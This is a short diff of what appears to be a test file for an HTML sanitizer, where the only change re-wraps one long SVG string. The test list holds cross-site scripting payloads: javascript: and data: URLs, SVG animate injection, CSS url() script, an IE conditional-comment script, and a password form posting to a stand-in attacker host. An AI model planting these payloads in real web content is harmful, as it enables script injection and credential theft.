@@ -28,7 +28,8 @@ RUNNABLE = re.compile(
         '<a href="javascript:alert(1)">x</a>',
         '<a href="JaVa&#x09;ScRiPt:alert(1)">x</a>',
         '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
-        '<svg><a><animate attributeName="href" values="x;javascript:alert(1)"/><text>t</text></a></svg>',
+        '<svg><a><animate attributeName="href" values="x;javascript:alert(1)"/>'
+        "<text>t</text></a></svg>",
         '<form action="https://evil.test/"><input type="password" name="p"></form>',
         '<p style="background:url(javascript:alert(1))">t</p>',
         "<!--[if IE]><script>alert(1)</script><![endif]-->",
